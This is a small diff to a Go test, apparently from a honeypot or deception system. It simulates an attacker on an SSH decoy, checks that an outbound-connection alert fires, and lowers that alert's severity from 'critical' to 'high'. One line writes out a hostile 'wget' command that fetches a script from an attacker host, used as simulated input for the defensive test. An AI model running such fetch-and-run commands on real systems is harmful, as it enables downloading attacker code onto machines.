@@ -145,7 +145,7 @@ func TestAProgramWantsToReachAnAttackersHost(t *testing.T) {
 	p.login("wget -q http://" + host + "/x.sh")
 	since := time.Now()
 	curl()
-	p.joined(since, "attackers_host_wanted", "critical", []string{"deception", "egress"}, "named "+host+" on decky trap (ssh)", "wanted to reach "+host+":80: refused")
+	p.joined(since, "attackers_host_wanted", "high", []string{"deception", "egress"}, "named "+host+" on decky trap (ssh)", "wanted to reach "+host+":80: refused")
 }
 
 // (e) Who attacks deckies has a key of ours.
